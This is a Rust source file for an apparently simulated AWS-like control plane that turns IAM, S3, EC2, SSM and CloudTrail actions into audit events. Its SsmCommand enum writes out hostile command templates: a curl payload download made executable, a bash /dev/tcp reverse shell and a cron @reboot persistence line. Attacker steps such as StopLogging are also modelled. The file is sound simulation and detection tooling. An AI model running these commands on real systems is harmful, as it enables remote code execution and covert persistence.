//! Control-plane actions and the interpreter that turns them into state
//! changes plus audit events.
//!
//! Every interpreted action yields exactly one event. Denied and failed
//! actions yield an event carrying an `error_code` and leave the
//! environment untouched except for its clock and sequence counter.
//! `Err` is reserved for structurally invalid calls: a clock regression,
//! an acting principal that does not exist, or an action aimed at the
//! wrong resource class.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::env::{AccessKey, IamPrincipal, InstanceState, PrincipalKind, SessionRecord};
use super::{Arn, CloudError, Environment, PolicyDoc};
use crate::telemetry::{CloudEvent, IdentityKind, UserIdentity};
use crate::time::Timestamp;

const SESSION_TTL_MS: i64 = 3_600_000;

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum SsmCommand {
    RunScript { name: String },
    DownloadPayload { url: String },
    ReverseShell { host: String, port: u16 },
    InstallPersistence { mechanism: String },
}

impl SsmCommand {
    pub fn command_text(&self) -> String {
        match self {
            SsmCommand::RunScript { name } => format!("sh /opt/scripts/{name}"),
            SsmCommand::DownloadPayload { url } => {
                format!("curl -s -o /tmp/.payload {url} && chmod +x /tmp/.payload")
            }
            SsmCommand::ReverseShell { host, port } => {
                format!("bash -i >& /dev/tcp/{host}/{port} 0>&1")
            }
            SsmCommand::InstallPersistence { mechanism } => {
                format!("echo '@reboot /tmp/.payload' | crontab - # {mechanism}")
            }
        }
    }
}

/// Who is acting. Sessions are referenced by the temporary access key id
/// returned from a successful `AssumeRole`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum PrincipalRef {
    Iam { arn: Arn },
    Session { access_key_id: String },
    Anonymous,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct Actor {
    pub principal: PrincipalRef,
    pub source_ip: String,
}

#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "action", rename_all = "snake_case")]
pub enum ControlAction {
    ConsoleLogin { user: Arn, password_ok: bool },
    AssumeRole { role: Arn, session_name: String },
    GetCallerIdentity,
    CreateUser { name: String },
    CreateAccessKey { user: Arn },
    CreateLoginProfile { user: Arn },
    AttachUserPolicy { user: Arn, policy_name: String, admin: bool },
    ListUsers,
    ListBuckets,
    ListObjects { bucket: String },
    GetObject { bucket: String, key: String },
    CopyObject { bucket: String, key: String, destination: String },
    PutObject { bucket: String, key: String, size_bytes: u64 },
    PutBucketPolicy { bucket: String, public: bool, change_ticket: Option<String> },
    PutBucketAcl { bucket: String, public: bool, change_ticket: Option<String> },
    GetBucketPolicy { bucket: String },
    DescribeInstances,
    StopInstances { instance_id: String },
    TerminateInstances { instance_id: String },
    AuthorizeSecurityGroupIngress { group_id: String, port: u16, cidr: String },
    SendCommand { instance_id: String, command: SsmCommand },
    StartAutomationExecution { instance_id: String, command: SsmCommand },
    StopLogging,
}

impl ControlAction {
    /// `(event_source, event_name)` for the emitted audit record.
    pub fn event_endpoint(&self) -> (&'static str, &'static str) {
        match self {
            ControlAction::ConsoleLogin { .. } => ("signin.amazonaws.com", "ConsoleLogin"),
            ControlAction::AssumeRole { .. } => ("sts.amazonaws.com", "AssumeRole"),
            ControlAction::GetCallerIdentity => ("sts.amazonaws.com", "GetCallerIdentity"),
            ControlAction::CreateUser { .. } => ("iam.amazonaws.com", "CreateUser"),
            ControlAction::CreateAccessKey { .. } => ("iam.amazonaws.com", "CreateAccessKey"),
            ControlAction::CreateLoginProfile { .. } => ("iam.amazonaws.com", "CreateLoginProfile"),
            ControlAction::AttachUserPolicy { .. } => ("iam.amazonaws.com", "AttachUserPolicy"),
            ControlAction::ListUsers => ("iam.amazonaws.com", "ListUsers"),
            ControlAction::ListBuckets => ("s3.amazonaws.com", "ListBuckets"),
            ControlAction::ListObjects { .. } => ("s3.amazonaws.com", "ListObjects"),
            ControlAction::GetObject { .. } => ("s3.amazonaws.com", "GetObject"),
            ControlAction::CopyObject { .. } => ("s3.amazonaws.com", "CopyObject"),
            ControlAction::PutObject { .. } => ("s3.amazonaws.com", "PutObject"),
            ControlAction::PutBucketPolicy { .. } => ("s3.amazonaws.com", "PutBucketPolicy"),
            ControlAction::PutBucketAcl { .. } => ("s3.amazonaws.com", "PutBucketAcl"),
            ControlAction::GetBucketPolicy { .. } => ("s3.amazonaws.com", "GetBucketPolicy"),
            ControlAction::DescribeInstances => ("ec2.amazonaws.com", "DescribeInstances"),
            ControlAction::StopInstances { .. } => ("ec2.amazonaws.com", "StopInstances"),
            ControlAction::TerminateInstances { .. } => ("ec2.amazonaws.com", "TerminateInstances"),
            ControlAction::AuthorizeSecurityGroupIngress { .. } => {
                ("ec2.amazonaws.com", "AuthorizeSecurityGroupIngress")
            }
            ControlAction::SendCommand { .. } => ("ssm.amazonaws.com", "SendCommand"),
            ControlAction::StartAutomationExecution { .. } => {
                ("ssm.amazonaws.com", "StartAutomationExecution")
            }
            ControlAction::StopLogging => ("cloudtrail.amazonaws.com", "StopLogging"),
        }
    }
}

/// Resolved acting principal, detached from the environment borrow.
struct Caller {
    identity: UserIdentity,
    /// Identity policies evaluated for this caller.
    policies: Vec<PolicyDoc>,
    /// ARN used for resource-policy and trust matching: the user ARN, or
    /// the underlying role ARN for sessions. None for anonymous callers.
    match_arn: Option<Arn>,
}

impl Caller {
    fn match_arn_str(&self) -> String {
        self.match_arn.as_ref().map(Arn::render).unwrap_or_else(|| "anonymous".to_string())
    }

    fn account_id(&self) -> &str {
        self.identity.account_id.as_deref().unwrap_or("")
    }
}

fn resolve_caller(env: &Environment, principal: &PrincipalRef) -> Result<Caller, CloudError> {
    match principal {
        PrincipalRef::Anonymous => Ok(Caller {
            identity: UserIdentity::anonymous(),
            policies: vec![],
            match_arn: None,
        }),
        PrincipalRef::Iam { arn } => {
            let found = env.find_principal(arn).ok_or_else(|| CloudError::UnknownResource {
                arn: arn.render(),
            })?;
            if found.kind != PrincipalKind::User {
                return Err(CloudError::InvalidAction {
                    reason: format!("{} is a role; roles act through sessions", arn),
                });
            }
            Ok(Caller {
                identity: UserIdentity {
                    kind: IdentityKind::IamUser,
                    arn: Some(found.arn.clone()),
                    account_id: Some(found.arn.account_id.clone()),
                    access_key_id: found.access_keys.first().map(|k| k.key_id.clone()),
                },
                policies: found.policies.values().cloned().collect(),
                match_arn: Some(found.arn.clone()),
            })
        }
        PrincipalRef::Session { access_key_id } => {
            let record = env.sessions.get(access_key_id).ok_or_else(|| {
                CloudError::UnknownResource {
                    arn: format!("session key {access_key_id}"),
                }
            })?;
            let role = env
                .find_principal(&record.role_arn)
                .ok_or_else(|| CloudError::UnknownResource { arn: record.role_arn.render() })?;
            Ok(Caller {
                identity: UserIdentity {
                    kind: IdentityKind::AssumedRole,
                    arn: Some(record.session_arn.clone()),
                    account_id: Some(record.role_arn.account_id.clone()),
                    access_key_id: Some(access_key_id.clone()),
                },
                policies: role.policies.values().cloned().collect(),
                match_arn: Some(role.arn.clone()),
            })
        }
    }
}

/// Outcome of interpreting one action before the event is assembled.
struct Interpretation {
    request_parameters: BTreeMap<String, String>,
    response_elements: BTreeMap<String, String>,
    error_code: Option<String>,
}

impl Interpretation {
    fn ok(params: BTreeMap<String, String>, response: BTreeMap<String, String>) -> Self {
        Interpretation {
            request_parameters: params,
            response_elements: response,
            error_code: None,
        }
    }

    fn fail(params: BTreeMap<String, String>, code: &str) -> Self {
        Interpretation {
            request_parameters: params,
            response_elements: BTreeMap::new(),
            error_code: Some(code.to_string()),
        }
    }
}

fn params(entries: &[(&str, &str)]) -> BTreeMap<String, String> {
    entries
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect()
}

/// Identity-policy or bucket-policy authorization for non-STS actions.
fn authorized(env: &Environment, caller: &Caller, action_name: &str, resource: &str, bucket: Option<&str>) -> bool {
    if caller.policies.iter().any(|p| p.allows(action_name, resource)) {
        return true;
    }
    if let Some(bucket_name) = bucket {
        if let Some(bucket) = env.find_bucket(bucket_name) {
            return bucket.policy.allows_principal(
                &caller.match_arn_str(),
                caller.account_id(),
                action_name,
                resource,
            );
        }
    }
    false
}

/// Applies `action` as `actor` at time `at`, returning the audit event.
///
/// The environment clock advances to `at` and the sequence counter by one
/// on every interpreted action, including denials.
pub fn apply_control_action(
    env: &mut Environment,
    actor: &Actor,
    action: &ControlAction,
    at: Timestamp,
) -> Result<CloudEvent, CloudError> {
    if at < env.clock {
        return Err(CloudError::ClockRegression { clock: env.clock, attempted: at });
    }
    let caller = resolve_caller(env, &actor.principal)?;
    let event_id = env.next_event_id();
    let outcome = interpret(env, &caller, action, at)?;
    let (event_source, event_name) = action.event_endpoint();

    env.clock = at;
    env.sequence += 1;

    Ok(CloudEvent {
        event_id,
        event_time: at,
        event_source: event_source.to_string(),
        event_name: event_name.to_string(),
        region: env.region.clone(),
        source_ip: actor.source_ip.clone(),
        user_identity: caller.identity,
        request_parameters: outcome.request_parameters,
        response_elements: outcome.response_elements,
        error_code: outcome.error_code,
    })
}

fn interpret(
    env: &mut Environment,
    caller: &Caller,
    action: &ControlAction,
    at: Timestamp,
) -> Result<Interpretation, CloudError> {
    let anonymous = caller.identity.kind == IdentityKind::Anonymous;
    match action {
        ControlAction::ConsoleLogin { user, password_ok } => {
            let target = require_kind(env, user, PrincipalKind::User)?;
            let p = params(&[("user_name", target.name.as_str())]);
            if caller.identity.arn.as_ref() != Some(user) {
                return Err(CloudError::InvalidAction {
                    reason: "console login actor must be the signing-in user".to_string(),
                });
            }
            if *password_ok && target.login_profile {
                let mut response = params(&[("console_login", "Success")]);
                response.insert("mfa_used".to_string(), "false".to_string());
                Ok(Interpretation::ok(p, response))
            } else {
                let mut out = Interpretation::fail(p, "Failed authentication");
                out.response_elements = params(&[("console_login", "Failure")]);
                Ok(out)
            }
        }

        ControlAction::AssumeRole { role, session_name } => {
            let p = params(&[
                ("role_arn", role.render().as_str()),
                ("role_session_name", session_name.as_str()),
            ]);
            if anonymous {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let target = match env.find_principal(role) {
                Some(found) if found.kind == PrincipalKind::Role => found,
                Some(_) => {
                    return Err(CloudError::InvalidAction {
                        reason: format!("{role} is not a role"),
                    })
                }
                None => return Ok(Interpretation::fail(p, "NoSuchEntity")),
            };
            let source = caller.match_arn.clone().expect("non-anonymous caller has an arn");
            let trusted = env.has_trust_edge(&source, role)
                || target.trust_policy.as_ref().is_some_and(|t| {
                    t.allows_principal(&source.render(), &source.account_id, "sts:AssumeRole", "*")
                });
            if !trusted {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let key_id = env.next_access_key_id(true);
            let session_arn = Arn::assumed_role(&role.account_id, role.name(), session_name)?;
            let record = SessionRecord {
                session_arn: session_arn.clone(),
                role_arn: role.clone(),
                access_key_id: key_id.clone(),
                issued_at: at,
                expires_at: at.plus_millis(SESSION_TTL_MS),
            };
            env.sessions.insert(key_id.clone(), record);
            let mut response = params(&[
                ("assumed_role_arn", session_arn.render().as_str()),
                ("access_key_id", key_id.as_str()),
            ]);
            response.insert(
                "expiration".to_string(),
                at.plus_millis(SESSION_TTL_MS).to_rfc3339(),
            );
            Ok(Interpretation::ok(p, response))
        }

        ControlAction::GetCallerIdentity => {
            let p = BTreeMap::new();
            if !authorized(env, caller, "sts:GetCallerIdentity", "*", None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let arn = caller.identity.arn.as_ref().expect("authorized caller has an arn");
            let response = params(&[
                ("arn", arn.render().as_str()),
                ("account_id", caller.account_id()),
            ]);
            Ok(Interpretation::ok(p, response))
        }

        ControlAction::CreateUser { name } => {
            let account_id = caller.account_id().to_string();
            let arn = if account_id.is_empty() {
                Arn::iam_user(&env.main_account_id, name)?
            } else {
                Arn::iam_user(&account_id, name)?
            };
            let p = params(&[("user_name", name.as_str())]);
            if !authorized(env, caller, "iam:CreateUser", &arn.render(), None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let account = env.accounts.get_mut(&account_id).expect("caller account exists");
            let key = format!("user/{name}");
            if account.principals.contains_key(&key) {
                return Ok(Interpretation::fail(p, "EntityAlreadyExists"));
            }
            account.principals.insert(
                key,
                IamPrincipal {
                    arn: arn.clone(),
                    kind: PrincipalKind::User,
                    name: name.clone(),
                    policies: BTreeMap::new(),
                    trust_policy: None,
                    access_keys: vec![],
                    login_profile: false,
                    created_at: at,
                },
            );
            let response = params(&[
                ("user_arn", arn.render().as_str()),
                ("user_name", name.as_str()),
            ]);
            Ok(Interpretation::ok(p, response))
        }

        ControlAction::CreateAccessKey { user } => {
            let target = require_kind(env, user, PrincipalKind::User)?;
            let name = target.name.clone();
            let p = params(&[("user_name", name.as_str())]);
            if !authorized(env, caller, "iam:CreateAccessKey", &user.render(), None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let key_id = env.next_access_key_id(false);
            let principal = find_principal_mut(env, user).expect("target checked above");
            principal.access_keys.push(AccessKey { key_id: key_id.clone(), created_at: at });
            let response = params(&[
                ("access_key_id", key_id.as_str()),
                ("user_name", name.as_str()),
            ]);
            Ok(Interpretation::ok(p, response))
        }

        ControlAction::CreateLoginProfile { user } => {
            let target = require_kind(env, user, PrincipalKind::User)?;
            let name = target.name.clone();
            let already = target.login_profile;
            let p = params(&[("user_name", name.as_str())]);
            if !authorized(env, caller, "iam:CreateLoginProfile", &user.render(), None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            if already {
                return Ok(Interpretation::fail(p, "EntityAlreadyExists"));
            }
            find_principal_mut(env, user).expect("target checked above").login_profile = true;
            Ok(Interpretation::ok(p, params(&[("user_name", name.as_str())])))
        }

        ControlAction::AttachUserPolicy { user, policy_name, admin } => {
            let target = require_kind(env, user, PrincipalKind::User)?;
            let name = target.name.clone();
            let p = params(&[
                ("policy_name", policy_name.as_str()),
                ("user_name", name.as_str()),
            ]);
            if !authorized(env, caller, "iam:AttachUserPolicy", &user.render(), None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let doc = if *admin { PolicyDoc::admin() } else { PolicyDoc::power_user() };
            find_principal_mut(env, user)
                .expect("target checked above")
                .policies
                .insert(policy_name.clone(), doc);
            Ok(Interpretation::ok(p, BTreeMap::new()))
        }

        ControlAction::ListUsers => {
            let p = BTreeMap::new();
            if !authorized(env, caller, "iam:ListUsers", "*", None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let account = env.accounts.get(caller.account_id()).expect("caller account exists");
            let count = account
                .principals
                .values()
                .filter(|pr| pr.kind == PrincipalKind::User)
                .count();
            Ok(Interpretation::ok(p, params(&[("user_count", count.to_string().as_str())])))
        }

        ControlAction::ListBuckets => {
            let p = BTreeMap::new();
            if !authorized(env, caller, "s3:ListBuckets", "*", None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let count: usize = env.accounts.values().map(|a| a.buckets.len()).sum();
            Ok(Interpretation::ok(p, params(&[("bucket_count", count.to_string().as_str())])))
        }

        ControlAction::ListObjects { bucket } => {
            let p = params(&[("bucket_name", bucket.as_str())]);
            let resource = bucket_resource(env, bucket);
            if !authorized(env, caller, "s3:ListObjects", &resource, Some(bucket)) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            match env.find_bucket(bucket) {
                Some(found) => Ok(Interpretation::ok(
                    p,
                    params(&[("object_count", found.objects.len().to_string().as_str())]),
                )),
                None => Ok(Interpretation::fail(p, "NoSuchBucket")),
            }
        }

        ControlAction::GetObject { bucket, key } => {
            let p = params(&[("bucket_name", bucket.as_str()), ("key", key.as_str())]);
            let resource = format!("{}/{key}", bucket_resource(env, bucket));
            if !authorized(env, caller, "s3:GetObject", &resource, Some(bucket)) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let Some(found) = env.find_bucket(bucket) else {
                return Ok(Interpretation::fail(p, "NoSuchBucket"));
            };
            match found.object(key) {
                Some(object) => Ok(Interpretation::ok(
                    p,
                    params(&[("bytes_sent", object.size_bytes.to_string().as_str())]),
                )),
                None => Ok(Interpretation::fail(p, "NoSuchKey")),
            }
        }

        ControlAction::CopyObject { bucket, key, destination } => {
            let p = params(&[
                ("bucket_name", bucket.as_str()),
                ("destination", destination.as_str()),
                ("key", key.as_str()),
            ]);
            let resource = format!("{}/{key}", bucket_resource(env, bucket));
            if !authorized(env, caller, "s3:GetObject", &resource, Some(bucket)) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let Some(found) = env.find_bucket(bucket) else {
                return Ok(Interpretation::fail(p, "NoSuchBucket"));
            };
            match found.object(key) {
                Some(object) => Ok(Interpretation::ok(
                    p,
                    params(&[("bytes_sent", object.size_bytes.to_string().as_str())]),
                )),
                None => Ok(Interpretation::fail(p, "NoSuchKey")),
            }
        }

        ControlAction::PutObject { bucket, key, size_bytes } => {
            let p = params(&[("bucket_name", bucket.as_str()), ("key", key.as_str())]);
            let resource = format!("{}/{key}", bucket_resource(env, bucket));
            if !authorized(env, caller, "s3:PutObject", &resource, Some(bucket)) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let size = *size_bytes;
            let Some(found) = env.find_bucket_mut(bucket) else {
                return Ok(Interpretation::fail(p, "NoSuchBucket"));
            };
            match found.objects.iter_mut().find(|o| &o.key == key) {
                Some(object) => {
                    object.size_bytes = size;
                    object.last_modified = at;
                }
                None => found.objects.push(super::env::S3Object {
                    key: key.clone(),
                    size_bytes: size,
                    last_modified: at,
                }),
            }
            Ok(Interpretation::ok(
                p,
                params(&[("bytes_received", size.to_string().as_str())]),
            ))
        }

        ControlAction::PutBucketPolicy { bucket, public, change_ticket } => {
            let mut p = params(&[
                ("bucket_name", bucket.as_str()),
                ("policy_public", if *public { "true" } else { "false" }),
            ]);
            if let Some(ticket) = change_ticket {
                p.insert("change_ticket".to_string(), ticket.clone());
            }
            set_bucket_policy(env, caller, "s3:PutBucketPolicy", bucket, *public, p)
        }

        ControlAction::PutBucketAcl { bucket, public, change_ticket } => {
            let mut p = params(&[
                ("acl", if *public { "public-read" } else { "private" }),
                ("bucket_name", bucket.as_str()),
            ]);
            if let Some(ticket) = change_ticket {
                p.insert("change_ticket".to_string(), ticket.clone());
            }
            set_bucket_policy(env, caller, "s3:PutBucketAcl", bucket, *public, p)
        }

        ControlAction::GetBucketPolicy { bucket } => {
            let p = params(&[("bucket_name", bucket.as_str())]);
            let resource = bucket_resource(env, bucket);
            if !authorized(env, caller, "s3:GetBucketPolicy", &resource, Some(bucket)) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            match env.find_bucket(bucket) {
                Some(found) => Ok(Interpretation::ok(
                    p,
                    params(&[("policy_public", if found.public { "true" } else { "false" })]),
                )),
                None => Ok(Interpretation::fail(p, "NoSuchBucket")),
            }
        }

        ControlAction::DescribeInstances => {
            let p = BTreeMap::new();
            if !authorized(env, caller, "ec2:DescribeInstances", "*", None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let count: usize = env.accounts.values().map(|a| a.instances.len()).sum();
            Ok(Interpretation::ok(
                p,
                params(&[("instance_count", count.to_string().as_str())]),
            ))
        }

        ControlAction::StopInstances { instance_id } => {
            transition_instance(env, caller, "ec2:StopInstances", instance_id, InstanceState::Stopped)
        }

        ControlAction::TerminateInstances { instance_id } => {
            transition_instance(
                env,
                caller,
                "ec2:TerminateInstances",
                instance_id,
                InstanceState::Terminated,
            )
        }

        ControlAction::AuthorizeSecurityGroupIngress { group_id, port, cidr } => {
            let port_str = port.to_string();
            let p = params(&[
                ("cidr_ip", cidr.as_str()),
                ("from_port", port_str.as_str()),
                ("group_id", group_id.as_str()),
                ("ip_protocol", "tcp"),
                ("to_port", port_str.as_str()),
            ]);
            let resource = env
                .find_security_group(group_id)
                .map(|sg| sg.arn.render())
                .unwrap_or_else(|| "*".to_string());
            if !authorized(env, caller, "ec2:AuthorizeSecurityGroupIngress", &resource, None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            let Some(sg) = env.find_security_group_mut(group_id) else {
                return Ok(Interpretation::fail(p, "InvalidGroup.NotFound"));
            };
            sg.ingress.push(super::env::SgRule {
                protocol: "tcp".to_string(),
                port: *port,
                cidr: cidr.clone(),
            });
            Ok(Interpretation::ok(p, BTreeMap::new()))
        }

        ControlAction::SendCommand { instance_id, command } => {
            run_remote_command(env, caller, "ssm:SendCommand", "AWS-RunShellScript", "command_id", instance_id, command)
        }

        ControlAction::StartAutomationExecution { instance_id, command } => {
            run_remote_command(
                env,
                caller,
                "ssm:StartAutomationExecution",
                "AWS-RunAutomation",
                "execution_id",
                instance_id,
                command,
            )
        }

        ControlAction::StopLogging => {
            let p = params(&[("trail_name", "account-audit-trail")]);
            if !authorized(env, caller, "cloudtrail:StopLogging", "*", None) {
                return Ok(Interpretation::fail(p, "AccessDenied"));
            }
            env.audit_logging = false;
            Ok(Interpretation::ok(p, BTreeMap::new()))
        }
    }
}

fn bucket_resource(env: &Environment, bucket: &str) -> String {
    env.find_bucket(bucket)
        .map(|b| b.arn.render())
        .unwrap_or_else(|| format!("arn:aws:s3::{}:bucket/{bucket}", env.main_account_id))
}

fn require_kind<'a>(
    env: &'a Environment,
    arn: &Arn,
    kind: PrincipalKind,
) -> Result<&'a IamPrincipal, CloudError> {
    match env.find_principal(arn) {
        Some(found) if found.kind == kind => Ok(found),
        Some(found) => Err(CloudError::InvalidAction {
            reason: format!("{arn} is a {:?}, expected a {kind:?}", found.kind),
        }),
        None => Err(CloudError::UnknownResource { arn: arn.render() }),
    }
}

fn find_principal_mut<'a>(env: &'a mut Environment, arn: &Arn) -> Option<&'a mut IamPrincipal> {
    let key = arn.resource_path.get(..2)?.join("/");
    env.accounts.get_mut(&arn.account_id)?.principals.get_mut(&key)
}

fn set_bucket_policy(
    env: &mut Environment,
    caller: &Caller,
    action_name: &str,
    bucket: &str,
    public: bool,
    p: BTreeMap<String, String>,
) -> Result<Interpretation, CloudError> {
    let resource = bucket_resource(env, bucket);
    if !authorized(env, caller, action_name, &resource, Some(bucket)) {
        return Ok(Interpretation::fail(p, "AccessDenied"));
    }
    let main_account = env.main_account_id.clone();
    let Some(found) = env.find_bucket_mut(bucket) else {
        return Ok(Interpretation::fail(p, "NoSuchBucket"));
    };
    let arn = found.arn.render();
    let policy = if public {
        PolicyDoc::anonymous_read(&arn)
    } else {
        PolicyDoc::account_private(&arn, &main_account)
    };
    found.set_policy(policy);
    Ok(Interpretation::ok(p, BTreeMap::new()))
}

fn transition_instance(
    env: &mut Environment,
    caller: &Caller,
    action_name: &str,
    instance_id: &str,
    to: InstanceState,
) -> Result<Interpretation, CloudError> {
    let p = params(&[("instance_id", instance_id)]);
    let resource = env
        .find_instance(instance_id)
        .map(|i| i.arn.render())
        .unwrap_or_else(|| "*".to_string());
    if !authorized(env, caller, action_name, &resource, None) {
        return Ok(Interpretation::fail(p, "AccessDenied"));
    }
    let Some(instance) = env.find_instance_mut(instance_id) else {
        return Ok(Interpretation::fail(p, "InvalidInstanceID.NotFound"));
    };
    if !instance.state.can_transition(to) {
        return Ok(Interpretation::fail(p, "IncorrectInstanceState"));
    }
    let previous = instance.state;
    instance.state = to;
    Ok(Interpretation::ok(
        p,
        params(&[
            ("current_state", format!("{to:?}").to_lowercase().as_str()),
            ("previous_state", format!("{previous:?}").to_lowercase().as_str()),
        ]),
    ))
}

fn run_remote_command(
    env: &mut Environment,
    caller: &Caller,
    action_name: &str,
    document: &str,
    id_field: &str,
    instance_id: &str,
    command: &SsmCommand,
) -> Result<Interpretation, CloudError> {
    let text = command.command_text();
    let p = params(&[
        ("command_text", text.as_str()),
        ("document_name", document),
        ("instance_id", instance_id),
    ]);
    let resource = env
        .find_instance(instance_id)
        .map(|i| i.arn.render())
        .unwrap_or_else(|| "*".to_string());
    if !authorized(env, caller, action_name, &resource, None) {
        return Ok(Interpretation::fail(p, "AccessDenied"));
    }
    let Some(instance) = env.find_instance(instance_id) else {
        return Ok(Interpretation::fail(p, "InvalidInstanceId"));
    };
    if instance.state != InstanceState::Running || !instance.ssm_agent {
        return Ok(Interpretation::fail(p, "InvalidInstanceId"));
    }
    let command_id = env.next_command_id();
    Ok(Interpretation::ok(
        p,
        params(&[(id_field, command_id.as_str())]),
    ))
}
